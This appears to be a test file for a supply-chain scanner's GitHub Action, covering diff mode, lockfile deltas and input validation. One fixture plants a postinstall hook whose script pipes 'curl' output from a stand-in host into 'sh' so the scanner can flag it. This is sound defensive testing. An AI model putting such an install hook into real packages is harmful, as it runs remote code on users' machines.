/** Diff mode in process: what a change is responsible for (reached files, lockfile deltas). */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { FIXTURES, scanFolder, tempDir } from './helpers.js';
import { acquireLocal } from '../src/acquire/local.js';
import { DEFAULT_LIMITS } from '../src/options.js';
import { loadSignatures } from '../src/signatures/load.js';
import { reachedFrom } from '../src/action/reach.js';
import { lockfileDelta, selectForDiff, isLockfile } from '../src/action/diff.js';
import { parseInputs } from '../src/action/inputs.js';

describe('Action diff mode', () => {
  it('a changed package.json script keeps findings in the unchanged file it runs', async () => {
    const t = tempDir();
    try {
      mkdirSync(path.join(t.dir, 'scripts'));
      writeFileSync(path.join(t.dir, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node scripts/setup.js' } }, null, 2));
      writeFileSync(path.join(t.dir, 'scripts', 'setup.js'), "const { execSync } = require('child_process');\nexecSync('curl -s https://api-settings.invalid/settings/linux?flag=7 | sh');\n");
      writeFileSync(path.join(t.dir, 'README.md'), '# x\n');
      const result = await scanFolder(t.dir);
      const inSetup = result.findings.filter((f) => f.location.file === 'scripts/setup.js');
      assert.ok(inSetup.length > 0, 'the fixture has a finding in scripts/setup.js');
      const ws = await acquireLocal(t.dir, DEFAULT_LIMITS);
      const sigs = loadSignatures();
      const reached = await reachedFrom(ws, new Set(['package.json']), sigs);
      assert.ok(reached.has('scripts/setup.js'), [...reached].join(','));
      const kept = selectForDiff(result.findings, { changed: new Set(['package.json']), reached, lockfiles: new Map() });
      assert.ok(kept.some((f) => f.location.file === 'scripts/setup.js'));
      const readmeOnly = selectForDiff(result.findings, { changed: new Set(['README.md']), reached: await reachedFrom(ws, new Set(['README.md']), sigs), lockfiles: new Map() });
      assert.deepEqual(readmeOnly, []);
      await ws.dispose();
    } finally {
      t.cleanup();
    }
  });

  describe('lockfiles: only packages the change adds or changes', () => {
    const dir = path.join(FIXTURES, 'repos', 'lock-npm-v3-bad');
    const head = readFileSync(path.join(dir, 'package-lock.json'), 'utf8');
    const clean = readFileSync(path.join(FIXTURES, 'repos', 'lock-npm-v3-clean', 'package-lock.json'), 'utf8');
    const cases: [string, string | undefined, boolean][] = [
      ['the PR adds the malicious package', clean, true],
      ['the package was already on the base branch', `${head}\n`, false],
      ['the lockfile is new', undefined, true],
    ];
    for (const [name, base, kept] of cases) {
      it(`${name}: ${kept ? 'reported' : 'not reported'}`, async () => {
        const result = await scanFolder(dir);
        const lockFindings = result.findings.filter((f) => f.location.file === 'package-lock.json');
        assert.ok(lockFindings.length > 0, 'the fixture has a lockfile finding');
        const delta = await lockfileDelta('package-lock.json', head, base);
        assert.ok(delta.understood, 'the npm lockfile parser read it');
        const out = selectForDiff(result.findings, { changed: new Set(['package-lock.json']), lockfiles: new Map([['package-lock.json', delta]]) });
        assert.equal(out.some((f) => f.location.file === 'package-lock.json'), kept);
      });
    }

    it('a lockfile no parser understands keeps every finding (fail safe)', async () => {
      const delta = await lockfileDelta('uv.lock', 'not a lockfile', 'also not');
      assert.equal(delta.understood, false);
      assert.ok(isLockfile('a/b/pnpm-lock.yaml') && !isLockfile('package.json'));
    });
  });
});

describe('Action inputs', () => {
  const env = { GITHUB_WORKSPACE: '/ws', RUNNER_TEMP: '/tmp/rt', GITHUB_EVENT_NAME: 'pull_request' };
  const read = (inputs: Record<string, string>) => (name: string) => inputs[name] ?? '';
  it('defaults: diff on pull requests, full otherwise; SARIF in RUNNER_TEMP', () => {
    const i = parseInputs(env, read({}));
    assert.equal(i.mode, 'diff');
    assert.equal(i.path, '/ws');
    assert.equal(i.sarifFile, '/tmp/rt/lurescan.sarif');
    assert.equal(i.failOn, undefined, 'fail-on falls back to the config, then the default');
    assert.equal(i.commentSummaryInPr, 'on-failure');
    assert.equal(i.annotations, 50);
    assert.equal(parseInputs({ ...env, GITHUB_EVENT_NAME: 'schedule' }, read({})).mode, 'full');
  });
  const bad: [Record<string, string>, RegExp][] = [
    [{ mode: 'partial' }, /input 'mode' must be one of diff, full/],
    [{ 'fail-on': 'error' }, /input 'fail-on' must be one of block, warn, never/],
    [{ 'comment-summary-in-pr': 'yes' }, /comment-summary-in-pr/],
    [{ annotations: '-1' }, /input 'annotations' must be a whole number/],
  ];
  for (const [inputs, want] of bad) it(`rejects ${JSON.stringify(inputs)}`, () => assert.throws(() => parseInputs(env, read(inputs)), want));
});
